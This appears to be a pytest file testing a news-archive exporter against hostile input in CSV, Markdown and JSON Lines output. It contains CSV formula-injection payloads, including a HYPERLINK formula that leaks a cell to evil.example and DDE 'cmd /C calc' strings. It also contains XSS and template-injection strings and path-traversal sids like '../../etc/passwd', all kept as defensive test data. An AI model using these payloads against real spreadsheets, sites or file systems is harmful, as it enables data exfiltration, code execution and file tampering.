"""``solidot-crawl export`` against hostile input: an export must not hurt its reader.

Stories come from the web, so a title, text or sid may be anything: CSV cells must not
become spreadsheet formulas, Markdown must render as the text it holds, a sid must never
become a path, and neither a bad story nor a failure midway may cost a file that exists.
"""

from __future__ import annotations

import csv
import json
import os
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from solidot_spider.archive import export
from solidot_spider.cli import main

FRONT_KEYS = ["title", "url", "source", "date", "fetch_date"]


def story(sid: Any = 80222, **fields: Any) -> dict[str, Any]:
    """A complete, harmless story with ``fields`` replaced."""
    base: dict[str, Any] = {
        "sid": sid,
        "url": f"https://www.solidot.org/story?sid={sid}",
        "title": "普京命令俄罗斯加强与中国在 AI 上的合作",
        "author": "Wilson",
        "author_uid": 2,
        "published_at": "2025-01-03T14:01:00+08:00",
        "topics": [{"tid": 1, "name": "AI"}],
        "categories": ["科技"],
        "department": None,
        "body_html": "<p>正文</p>",
        "body_text": "俄罗斯总统普京下令政府以及联邦储蓄银行(Sberbank)加强与中国在 AI 上的合作。",
        "references": ["https://www.reuters.com/a"],
        "views": 12,
        "comment_count": 0,
        "comments": [],
        "fetched_at": "2025-10-06T20:10:38.942193+00:00",
    }
    return base | fields


def write_jsonl(path: Path, *lines: dict[str, Any] | str | bytes) -> Path:
    """A JSON Lines file of stories (dicts) and raw lines (str, bytes) as they come."""
    with path.open("wb") as handle:
        for line in lines:
            if isinstance(line, dict):
                line = json.dumps(line, ensure_ascii=False)
            handle.write((line.encode() if isinstance(line, str) else line) + b"\n")
    return path


def run_export(capsys: pytest.CaptureFixture[str], *args: str | Path) -> tuple[int, str]:
    """``solidot-crawl export …`` in this process: its exit status and its stderr."""
    status = main(["export", "--quiet", *map(str, args)])
    return status, capsys.readouterr().err


def files_under(directory: Path) -> set[str]:
    return {str(path.relative_to(directory)) for path in directory.rglob("*") if not path.is_dir()}


def front_matter(path: Path) -> tuple[dict[str, Any], str]:
    """The front matter of an exported story, each value read as the JSON (so YAML) scalar it must
    be, and the Markdown after it; fails on any line that is not ``key: "scalar"``."""
    text = path.read_text(encoding="utf-8")
    assert text.startswith("---\n")
    front, separator, body = text[4:].partition("\n---\n")
    assert separator, "the front matter is not closed"
    fields: dict[str, Any] = {}
    for line in front.split("\n"):
        match = re.fullmatch(r'([a-z_]+): (".*")', line)
        assert match, f"not a key with a quoted scalar: {line!r}"
        assert match[1] not in fields
        fields[match[1]] = json.loads(match[2])
    return fields, body


# --- CSV ---------------------------------------------------------------------------------------


HOSTILE_CELLS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "author": "+cmd|' /C calc'!A0",
    "department": "-2+3+cmd|' /C calc'!A0",
    "body_text": "@SUM(1+1)*cmd|' /C calc'!A0",
    "url": "\t=1+1",
    "published_at": "\r=1+1",
    "body_html": "'=1+1",  # a leading quote is doubled, so one quote off always gives the value back
}


def test_csv_text_cells_never_start_a_formula_and_numbers_stay_numbers(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile = story(**HOSTILE_CELLS, categories=["=1+1", "-1"], topics=-1, views=-5, comment_count=3)
    source = write_jsonl(tmp_path / "stories.jsonl", hostile, story(80223))
    status, err = run_export(capsys, "--format", "csv", "--out", tmp_path / "s.csv", "--from", source)
    assert status == 0, err
    with (tmp_path / "s.csv").open(newline="", encoding="utf-8") as handle:
        first, second = list(csv.DictReader(handle))
    for name, value in HOSTILE_CELLS.items():
        assert first[name] == "'" + value, name
    assert first["topics"] == "'-1"  # a JSON cell is a text cell too
    assert json.loads(first["categories"]) == ["=1+1", "-1"]  # JSON of a list starts with "["
    assert (first["views"], first["comment_count"], first["sid"]) == ("-5", "3", "80222")
    assert second["title"] == story()["title"] and second["url"] == story(80223)["url"]
    # every text cell quoted, numbers bare: a reader told "unquoted is a number" gets numbers
    with (tmp_path / "s.csv").open(newline="", encoding="utf-8") as handle:
        header, row, _ = list(csv.reader(handle, quoting=csv.QUOTE_NONNUMERIC))
    cells = dict(zip(header, row, strict=True))
    assert (cells["sid"], cells["views"], cells["comment_count"]) == (80222.0, -5.0, 3.0)
    assert all(isinstance(cells[name], str) for name in [*HOSTILE_CELLS, "categories", "topics"])


# --- Markdown ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "title",
    [
        "Rust: 安全的系统语言",
        "two\nlines: injected\n---\nthird",
        'a "quoted" # not a comment \\ backslash',
        "\tleading tab, trailing space ",
        "separators\u2028and\u2029nel\x85del\x7fbom\ufeffend",
        "[x](javascript:alert(1)) {{ site }}",
    ],
)
def test_front_matter_values_are_quoted_yaml_scalars(
    title: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = write_jsonl(tmp_path / "stories.jsonl", story(title=title, url="https://x/?a=1&b=#c: d"))
    status, err = run_export(capsys, "--format", "md", "--out", tmp_path / "md", "--from", source)
    assert status == 0, err
    fields, _ = front_matter(tmp_path / "md" / "80222.md")
    assert list(fields) == FRONT_KEYS
    assert fields["title"] == title and fields["url"] == "https://x/?a=1&b=#c: d"
    front = (tmp_path / "md" / "80222.md").read_text(encoding="utf-8").split("\n---\n")[0]
    # nothing a YAML parser (or str.splitlines) takes for a line break, nothing YAML forbids
    assert not re.search("[\x7f-\x9f\u2028\u2029\ufeff]", front)


#: a stored line -> the Markdown line written for it: rendered, it shows exactly the stored text
MARKDOWN_LINES = {
    "&lt;img src=x onerror=alert(1)&gt;": "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<script>alert(1)</script>": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "Tom & Jerry": "Tom &amp; Jerry",
    "# not a heading": "\\# not a heading",
    "> not a quote": "&gt; not a quote",
    "- not a list": "\\- not a list",
    "+ not a list": "\\+ not a list",
    "* not a list": "\\* not a list",
    "1. not a list": "1\\. not a list",
    "2) not a list": "2\\) not a list",
    "2025.01 是日期": "2025.01 是日期",
    "```html": "\\`\\`\\`html",
    "~~~": "\\~~~",
    "===": "\\===",
    "___": "\\___",
    "| a | b |": "\\| a | b |",
    ": definition": "\\: definition",
    "[x](javascript:alert(1))": "\\[x\\](javascript:alert(1))",
    "![i](https://evil.example/t.png)": "!\\[i\\](https://evil.example/t.png)",
    "`code`": "\\`code\\`",
    "{{ site.secret }} {% include x %}": "\\{\\{ site.secret \\}\\} \\{% include x %\\}",
    "a \\ b": "a \\\\ b",
    "    four spaces would be code": "four spaces would be code",
    "俄罗斯总统普京下令(Sberbank) https://www.reuters.com/a-b/": "俄罗斯总统普京下令(Sberbank) https://www.reuters.com/a-b/",
}


def test_markdown_text_renders_as_the_text_it_holds(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    body = "\n".join(MARKDOWN_LINES)
    title = "<b>C#</b> & [more] #"
    source = write_jsonl(tmp_path / "stories.jsonl", story(title=title, body_text=body))
    status, err = run_export(capsys, "--format", "md", "--out", tmp_path / "md", "--from", source)
    assert status == 0, err
    fields, markdown = front_matter(tmp_path / "md" / "80222.md")
    assert fields["title"] == title
    heading, *lines = [line for line in markdown.split("\n") if line]
    assert heading == "# &lt;b&gt;C\\#&lt;/b&gt; &amp; \\[more\\] \\#"
    assert lines == list(MARKDOWN_LINES.values())


def test_a_line_break_of_any_kind_starts_an_escaped_line(tmp_path: Path) -> None:
    """A Markdown reader breaks lines at \\r too: what follows one is a line start like any other."""
    text = export.story_markdown(story(body_text="ok\r# heading\r\n- item\x0b> x"))
    assert text.endswith("\n\nok\n\\# heading\n\\- item\n&gt; x\n")


# --- sid -> file name --------------------------------------------------------------------------

HOSTILE_SIDS: list[Any] = [
    "../../etc/passwd",
    "80224/../../../escaped",
    "/tmp/absolute",
    "80225.md",
    "１２",  # full-width digits: int() would take them
    -1,
    0,
    True,
    1.5,
    None,
    2**64,
]


def test_a_hostile_sid_never_becomes_a_path(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    lines = [story(sid) for sid in HOSTILE_SIDS]
    no_sid = story()
    del no_sid["sid"]
    source = write_jsonl(tmp_path / "stories.jsonl", *lines, no_sid, story(80222), story("80223"))
    out = tmp_path / "site" / "md"
    status, err = run_export(capsys, "--format", "md", "--out", out, "--from", source)
    assert status == 0, err
    assert files_under(tmp_path) == {"stories.jsonl", "site/md/80222.md", "site/md/80223.md"}
    skipped = [line for line in err.splitlines() if line.startswith("skipped ")]
    assert len(skipped) == len(HOSTILE_SIDS) + 1, err
    assert "skipped stories.jsonl:1: sid '../../etc/passwd' is not a positive integer" in err.replace(
        str(tmp_path) + "/", ""
    )
    assert f"exported 2 stories from {source} to {out} (md), {len(skipped)} skipped" in err
    assert "Traceback" not in err


def test_a_hostile_sid_from_any_source_stays_in_the_output_directory(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The Exporter checks sids itself: MongoDB documents don't go through the JSON Lines reader."""
    out = tmp_path / "out" / "md"
    written = export.Exporter(out, "md").write(
        [story("../escaped"), story(-3), story({"$gt": 1}), story(80222)]
    )
    assert written == 1
    assert files_under(tmp_path) == {"out/md/80222.md"}
    assert len(capsys.readouterr().err.splitlines()) == 3  # one line per skipped story


# --- --out and --from ------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "md"])
@pytest.mark.parametrize("way", ["same", "dot-slash", "symlink", "hard link", "absolute"])
def test_out_that_is_the_source_is_refused_and_the_source_is_intact(
    fmt: str, way: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    source = write_jsonl(tmp_path / "stories.jsonl", story(80222), story(80223))
    before = source.read_bytes()
    monkeypatch.chdir(tmp_path)
    if way == "symlink":
        (tmp_path / "link.jsonl").symlink_to(source)
    if way == "hard link":
        os.link(source, tmp_path / "link.jsonl")
    out = {"same": "stories.jsonl", "dot-slash": "./stories.jsonl", "absolute": str(source)}.get(
        way, "link.jsonl"
    )
    listing = files_under(tmp_path)
    status, err = run_export(capsys, "--format", fmt, "--out", out, "--from", "stories.jsonl")
    assert status == 2
    assert (
        err.strip()
        == f"solidot-crawl export: --out {Path(out)} is the file exported from (--from stories.jsonl)"
    )
    assert source.read_bytes() == before
    assert files_under(tmp_path) == listing


def test_an_md_story_file_that_is_the_source_is_skipped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = write_jsonl(tmp_path / "80222.md", story(80222), story(80223))
    before = source.read_bytes()
    status, err = run_export(capsys, "--format", "md", "--out", tmp_path, "--from", source)
    assert status == 0, err
    assert source.read_bytes() == before
    assert f"skipped sid 80222: {source} is the file exported from" in err
    assert (tmp_path / "80223.md").exists() and "1 skipped" in err


# --- failures midway --------------------------------------------------------------------------


def failing_after(count: int, error: BaseException) -> Iterator[dict[str, Any]]:
    """A source that gives ``count`` stories, then fails (a lost connection, Ctrl-C)."""
    for sid in range(80222, 80222 + count):
        yield story(sid)
    raise error


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
@pytest.mark.parametrize("error", [RuntimeError("connection lost"), KeyboardInterrupt()])
def test_a_failed_export_leaves_the_old_file_as_it_was(
    fmt: str, error: BaseException, tmp_path: Path
) -> None:
    out = tmp_path / f"stories.{fmt}"
    out.write_text("the previous export\n", encoding="utf-8")
    with pytest.raises(type(error)):
        export.Exporter(out, fmt).write(failing_after(3, error))
    assert out.read_text(encoding="utf-8") == "the previous export\n"
    assert files_under(tmp_path) == {out.name}  # no temporary file left behind


def test_ctrl_c_during_an_export_exits_130_and_keeps_the_old_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    source = write_jsonl(tmp_path / "stories.jsonl", story(80222))
    out = tmp_path / "stories.csv"
    out.write_text("the previous export\n", encoding="utf-8")
    monkeypatch.setattr(export.JsonLinesSource, "stories", lambda self: failing_after(2, KeyboardInterrupt()))
    try:
        status: int | None = main(
            ["export", "--quiet", "--format", "csv", "--out", str(out), "--from", str(source)]
        )
    except KeyboardInterrupt:
        status = None
    assert status == 130
    assert f"interrupted; {out} is as it was" in capsys.readouterr().err
    assert out.read_text(encoding="utf-8") == "the previous export\n"
    assert files_under(tmp_path) == {"stories.jsonl", "stories.csv"}


def test_an_md_story_file_is_whole_or_untouched(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Ctrl-C between writing a story file and putting it in place leaves the old one."""
    (tmp_path / "80222.md").write_text("the previous export\n", encoding="utf-8")

    def interrupted(*args: Any) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(os, "replace", interrupted)
    with pytest.raises(KeyboardInterrupt):
        export.Exporter(tmp_path, "md").write([story(80222)])
    monkeypatch.undo()
    assert (tmp_path / "80222.md").read_text(encoding="utf-8") == "the previous export\n"
    assert files_under(tmp_path) == {"80222.md"}


def test_a_symlink_in_the_output_directory_is_replaced_not_written_through(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("not yours\n", encoding="utf-8")
    (tmp_path / "md").mkdir()
    (tmp_path / "md" / "80222.md").symlink_to(victim)
    source = write_jsonl(tmp_path / "stories.jsonl", story(80222))
    status, err = run_export(capsys, "--format", "md", "--out", tmp_path / "md", "--from", source)
    assert status == 0, err
    assert victim.read_text(encoding="utf-8") == "not yours\n"
    assert not (tmp_path / "md" / "80222.md").is_symlink()


@pytest.mark.parametrize("fmt", ["csv", "md"])
def test_exported_files_get_the_usual_permissions(fmt: str, tmp_path: Path) -> None:
    """Written aside then renamed, a file is still created like any other (0666 less the umask)."""
    umask = os.umask(0o022)
    try:
        out = tmp_path / ("md" if fmt == "md" else "s.csv")
        export.Exporter(out, fmt).write([story(80222)])
    finally:
        os.umask(umask)
    written = out / "80222.md" if fmt == "md" else out
    assert written.stat().st_mode & 0o777 == 0o644


# --- bad input: skipped, counted, no traceback -------------------------------------------------


def test_bad_lines_and_bad_stories_are_skipped_and_counted(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = write_jsonl(
        tmp_path / "stories.jsonl",
        story(80221),
        '{"sid": 80222, "title": "trunc',  # a crawl killed mid-line
        "[80223]",
        "[" * 100_000,
        b'{"sid": 80224, "title": "\xff\xfe"}',
        "",
        '{"sid": 80225, "views": NaN}',
        story(80226, published_at="yesterday"),
        story(80227, title=None),
        {key: value for key, value in story(80228).items() if key != "fetched_at"},
        story(80229),
    )
    expected = [
        "stories.jsonl:2: not JSON",
        "stories.jsonl:3: a JSON list, not an object",
        "stories.jsonl:4: not JSON",
        "stories.jsonl:5: not UTF-8",
    ]
    status, err = run_export(capsys, "--format", "jsonl", "--out", tmp_path / "out.jsonl", "--from", source)
    assert status == 0, err
    assert "Traceback" not in err
    for line in [*expected, "sid 80225: not JSON-serializable"]:
        assert f"skipped {tmp_path}/{line}" in err or f"skipped {line}" in err, (line, err)
    exported = [json.loads(line)["sid"] for line in (tmp_path / "out.jsonl").read_text().split("\n") if line]
    assert exported == [80221, 80226, 80227, 80228, 80229]  # JSON Lines keeps what it is given
    assert "exported 5 stories" in err and "5 skipped" in err

    status, err = run_export(capsys, "--format", "md", "--out", tmp_path / "md", "--from", source)
    assert status == 0, err
    for line in [
        "sid 80226: published_at 'yesterday' is not an ISO time",
        "sid 80227: title is NoneType, not text",
        "sid 80228: no fetched_at",
    ]:
        assert f"skipped {line}" in err, (line, err)
    assert files_under(tmp_path / "md") == {"80221.md", "80229.md"}
    assert "exported 2 stories" in err and "8 skipped" in err and "Traceback" not in err


def test_text_that_is_not_valid_unicode_is_written_not_fatal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A lone surrogate (``\\ud800`` in JSON) can't be UTF-8: escaped, not a crash midway."""
    source = write_jsonl(tmp_path / "stories.jsonl", json.dumps(story(body_text="a\ud800b")))
    for fmt, out in [("jsonl", "out.jsonl"), ("csv", "out.csv"), ("md", "md")]:
        status, err = run_export(capsys, "--format", fmt, "--out", tmp_path / out, "--from", source)
        assert status == 0 and "exported 1 stories" in err, err
    assert json.loads((tmp_path / "out.jsonl").read_text(encoding="utf-8"))["body_text"] == "a\ud800b"


def test_jsonl_lines_survive_any_line_splitting(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """U+2028, U+2029 and U+0085 are line breaks to ``str.splitlines``: escaped in the JSON."""
    hostile = story(80222, title="a\u2028b\u2029c\x85d", body_text="x\u2028y")
    source = write_jsonl(tmp_path / "stories.jsonl", hostile, story(80223))
    status, err = run_export(capsys, "--format", "jsonl", "--out", tmp_path / "out.jsonl", "--from", source)
    assert status == 0, err
    lines = (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line) for line in lines] == [hostile, story(80223)]
